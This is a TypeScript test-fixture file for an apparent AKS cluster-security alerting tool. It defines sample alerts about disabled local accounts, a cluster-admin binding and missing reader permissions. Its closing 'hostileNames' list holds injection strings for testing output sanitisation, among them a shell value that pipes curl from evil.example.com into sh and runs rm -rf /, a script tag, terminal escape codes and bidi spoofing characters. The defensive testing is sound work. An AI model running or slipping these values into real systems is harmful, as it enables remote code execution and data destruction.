import type {
  CampaignAlert,
  ClusterAlert,
  ConcernAlert,
  DigestAlert,
  HeldFinding,
  SignalAlert,
} from '../../shared/domain/alert.ts'
import type { Cause } from '../../shared/domain/cause.ts'
import type { Transition } from '../../shared/domain/transition.ts'

const id =
  '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-payments/providers/Microsoft.ContainerService/managedClusters/payments-prod'

export const cause: Cause = {
  caller: {
    kind: 'application',
    applicationId: '00000000-0000-0000-0000-00000000000a',
    team: 'payments',
    repository: 'example/payments-infra',
  },
  operation: 'Microsoft.ContainerService/managedClusters/write',
  resourceId: id,
  at: '2026-11-23T11:59:00.000Z',
  correlationId: '00000000-0000-0000-0000-00000000000c',
  changed: [{ at: '/properties/disableLocalAccounts', before: true, after: false }],
}

export const finding: HeldFinding = {
  control: 'aks-local-accounts-disabled',
  title: 'Local accounts are disabled',
  severity: 'high',
  because: 'the admin kubeconfig bypasses Entra ID',
  targets: [],
  at: '/properties/disableLocalAccounts',
  since: '2026-11-23T12:00:00.000Z',
  cause,
  why: 'A local account is a shared certificate: nobody behind it, no MFA, no revoking one user.',
  fix: 'az aks update -g <group> -n <cluster> --disable-local-accounts',
}

export const opened: Transition = {
  kind: 'opened',
  control: finding.control,
  title: finding.title,
  severity: 'high',
  verdict: { status: 'fail', because: finding.because, targets: [] },
  at: '2026-11-23T12:00:00.000Z',
  since: '2026-11-23T12:00:00.000Z',
  cause,
  silent: false,
  unsettled: false,
}

export function clusterAlert(more: Partial<ClusterAlert> = {}): ClusterAlert {
  return {
    v: 1,
    key: '0123456789abcdef0123456789abcdef',
    version: 1_795_435_200_000,
    route: 'payments',
    state: 'open',
    severity: 'high',
    title: 'payments-prod: the admin kubeconfig bypasses Entra ID',
    at: '2026-11-23T12:00:00.000Z',
    about: 'cluster',
    cluster: {
      id,
      kind: 'aks',
      name: 'payments-prod',
      subscriptionId: '00000000-0000-0000-0000-000000000001',
      resourceGroup: 'rg-payments',
      location: 'westeurope',
    },
    changes: [opened],
    open: [finding],
    ...more,
  }
}

export const resolvedAlert: ClusterAlert = clusterAlert({
  state: 'resolved',
  version: 1_795_435_260_000,
  title: 'payments-prod: resolved: Local accounts are disabled',
  changes: [
    {
      ...opened,
      kind: 'resolved',
      verdict: { status: 'pass', because: 'local accounts are off' },
    },
  ],
  open: [],
})

const touched = Array.from({ length: 400 }, (_, index) => ({
  id: id.replace('payments-prod', `shop-${index}`),
  name: `shop-${index}`,
}))
const { targets: _, at: __, cause: ___, ...common } = finding

export const campaignAlert: CampaignAlert = {
  v: 1,
  key: 'abcdef0123456789abcdef0123456789',
  version: 1_795_435_200_000,
  route: 'default',
  state: 'open',
  severity: 'high',
  title: '400 of 412 clusters: the admin kubeconfig bypasses Entra ID',
  at: '2026-11-23T12:00:00.000Z',
  about: 'campaign',
  campaign: { id: 'c0', clusters: 412 },
  cause: {
    ...cause,
    resourceId:
      '/subscriptions/00000000-0000-0000-0000-000000000001/providers/Microsoft.Authorization/policyAssignments/rollout',
    changed: [],
  },
  moved: [{ ...common, kind: 'opened', clusters: touched }],
  open: [{ ...common, clusters: touched }],
}

/** With as many lines as no chat takes. */
export const digestAlert: DigestAlert = {
  v: 1,
  key: 'fedcba98765432100123456789abcdef',
  version: 1_795_435_200_000,
  route: 'default',
  state: 'open',
  severity: 'critical',
  title: 'digest of default: 400 new, 0 resolved, 400 open',
  at: '2026-11-23T07:00:00.000Z',
  about: 'digest',
  digest: 'route',
  period: { from: '2026-11-22T22:00:00.000Z', until: '2026-11-23T07:00:00.000Z' },
  counts: { opened: 400, worsened: 0, resolved: 0, open: 400 },
  sections: [
    {
      heading: 'Now failing',
      lines: touched.map(({ name }) => `high: Local accounts are *disabled*: ${name} <b>`),
    },
    { heading: 'Resolved', lines: [] },
  ],
  open: [{ ...common, clusters: touched }],
}

export const signalAlert: SignalAlert = {
  v: 1,
  key: '00112233445566778899aabbccddeeff',
  version: 1_795_435_200_000,
  route: 'default',
  state: 'open',
  severity: 'high',
  title:
    'payments-prod: Somebody was bound to cluster-admin or a role that amounts to it by mallory@example.com',
  at: '2026-11-23T12:00:00.000Z',
  about: 'signal',
  cluster: {
    id,
    kind: 'aks',
    name: 'payments-prod',
    subscriptionId: '00000000-0000-0000-0000-000000000001',
    resourceGroup: 'rg-payments',
  },
  signal: {
    key: 'a'.repeat(32),
    detection: 'k8s.rbac.admin-binding',
    title: 'Somebody was bound to cluster-admin or a role that amounts to it',
    severity: 'high',
    cluster: id.toLowerCase(),
    actor: 'mallory@example.com',
    group: 'payments-prod · mallory@example.com · ops',
    values: { 'user.username': 'mallory@example.com', 'objectRef.name': 'ops' },
    firstSeen: '2026-11-23T11:50:00.000Z',
    lastSeen: '2026-11-23T11:58:00.000Z',
    count: 3,
    auditIds: ['00000000-0000-0000-0000-0000000000f1'],
    because: '3 requests matched',
  },
  why: 'A binding to such a role is the shortest way to keep a cluster.',
  respond: 'Ask the author for the change request.\nkubectl delete clusterrolebinding ops',
  techniques: ['T1098.006'],
  evidence: 'signals/a.json',
}

export const concernAlert: ConcernAlert = {
  v: 1,
  key: 'fedcba9876543210fedcba9876543210',
  version: 1_795_435_200_000,
  route: 'default',
  state: 'open',
  severity: 'high',
  title: 'Plimsoll itself: Plimsoll cannot read managedCluster',
  at: '2026-11-23T12:00:00.000Z',
  about: 'plimsoll',
  concern: {
    cause: 'forbidden: managedCluster',
    scope: '/subscriptions/00000000-0000-0000-0000-000000000001',
    title: 'Plimsoll cannot read managedCluster',
    because: 'Resource Manager answered 403',
    fix: 'Grant the collecting identity the Plimsoll reader role at this scope: plimsoll doctor',
  },
}

/** Names that mean something to Markdown, HTML, terminals, shells and templates. */
export const hostileNames = [
  '[click](https://evil.example.com)',
  '**bold** _it_ ~~no~~ `code`',
  '# heading\n> quote\n- item',
  '<script>alert(1)</script><at>everyone</at>',
  '| a | b |\n|---|---|',
  '\u001b[2J\u001b[31mred\u0007\u0000',
  '\u202Etxt.exe\u2066\u200B\uFEFF',
  `{{DATE(2026-11-23T12:00:00Z)}} ${'$'}{env} @{body()}`,
  '$(curl evil.example.com | sh); `id` && rm -rf /',
  '\uD800 lone surrogate',
  '1. one\\[2](x)',
  '![x](http://198.51.100.1/p.png)',
  'a\u0301'.repeat(3000),
  '🚢'.repeat(5000),
  'x'.repeat(10_000),
  '['.repeat(10_000),
] as const
